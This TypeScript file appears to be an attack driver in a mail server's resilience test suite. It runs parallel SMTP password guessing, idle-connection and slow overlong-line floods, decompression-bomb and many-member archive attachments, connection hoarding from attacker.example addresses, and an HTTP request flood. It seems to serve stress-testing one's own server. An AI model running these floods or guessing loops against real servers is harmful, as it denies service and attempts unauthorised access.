/**
 * The process that attacks: takes an `Order` as JSON for its only argument, prints `ready` when the attack is under way, and goes on
 * until it is ended. Whatever is refused or closed is tried again at once, at most so often a second.
 */
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { costlyArchive, crowdedArchive, messageWith } from './archives.ts';
import type { AttackName } from './attacks.ts';
import { attackerAddress } from './outside-network.ts';
import { Speaker } from './speak.ts';

export interface Order {
  readonly attack: AttackName;
  readonly host: string;
  readonly mxPort: number;
  readonly submissionPort: number;
  readonly httpPort: number;
}

const order = JSON.parse(process.argv[2] ?? '') as Order;
const { host, mxPort, submissionPort } = order;
const AGAIN_MS = 50;
let done = 0;

/** Each of so many goes on for ever; what it throws is a connection that was not had. */
function inParallel(count: number, one: (number: number) => Promise<void>): void {
  for (let number = 0; number < count; number += 1)
    void (async () => {
      for (;;) {
        await one(number).catch(() => undefined);
        done += 1;
        await pause(AGAIN_MS);
      }
    })();
}

const openMx = (from: string): Promise<Speaker> => Speaker.open({ host, port: mxPort, from, tls: false });

async function guess(): Promise<void> {
  const speaker = await Speaker.open({ host, port: submissionPort, from: attackerAddress(0), tls: true });
  await speaker.say('');
  await speaker.say('EHLO attacker.example\r\n');
  for (let number = 0; !speaker.socket.destroyed; number += 1) {
    const secret = Buffer.from(`\0user\0guess-${number}`).toString('base64');
    if (!/^5|^4/.test(await speaker.say(`AUTH PLAIN ${secret}\r\n`))) break;
    done += 1;
  }
  speaker.close();
}

/** Connects, says nothing, and comes back when it is sent away. */
const sayNothing = (from: string, port: number): Promise<void> =>
  new Promise((resolve) => {
    const socket = connect({ host, port, localAddress: from });
    socket.on('error', () => undefined);
    socket.on('close', () => resolve());
    socket.resume();
  });

async function hoard(number: number): Promise<void> {
  const speaker = await openMx(attackerAddress(Math.floor(number / 50)));
  await speaker.say('');
  await speaker.say('EHLO attacker.example\r\n');
  await new Promise((resolve) => speaker.socket.on('close', resolve));
}

const sendOver =
  (message: string, name: string) =>
  async (number: number): Promise<void> => {
    const speaker = await openMx(attackerAddress(number % 3));
    await speaker.say('');
    for (const command of [
      'EHLO attacker.example\r\n',
      `MAIL FROM:<${name}${number}@attacker.example>\r\n`,
      'RCPT TO:<user@hosted.example>\r\n',
      'DATA\r\n',
      `${message}\r\n.\r\n`,
    ])
      if (!/^[23]/.test(await speaker.say(command))) break;
    speaker.close();
  };

async function slowLine(number: number): Promise<void> {
  const speaker = await openMx(attackerAddress(number % 3));
  await speaker.say('');
  await speaker.say('EHLO attacker.example\r\n');
  const line = `MAIL FROM:${' '.repeat(12_000)}a\ra\r\n`;
  while ((await speaker.say(line)) !== '') done += 1;
  speaker.close();
}

const askHttp = (): Promise<void> =>
  new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port: order.httpPort });
    const ask = (): boolean => socket.write('GET /api/queue HTTP/1.1\r\nHost: localhost\r\n\r\n');
    socket.on('connect', ask);
    socket.on('data', () => {
      done += 1;
      ask();
    });
    socket.on('error', () => undefined);
    socket.on('close', () => resolve());
  });

function start(): void {
  switch (order.attack) {
    case 'guess':
      return inParallel(40, guess);
    case 'silent':
      return inParallel(1_000, () => sayNothing(attackerAddress(0), submissionPort));
    case 'content':
      return inParallel(45, sendOver(messageWith('report.tar.bz2', costlyArchive()), 'content'));
    case 'members':
      return inParallel(5, sendOver(messageWith('all.tar.gz', crowdedArchive(190_000)), 'members'));
    case 'hoard':
      return inParallel(25 * 50, hoard);
    case 'line':
      return inParallel(20, slowLine);
    case 'http':
      return inParallel(64, askHttp);
  }
}

start();
process.stdout.write('ready\n');
setInterval(() => process.stdout.write(`done=${done}\n`), 250);
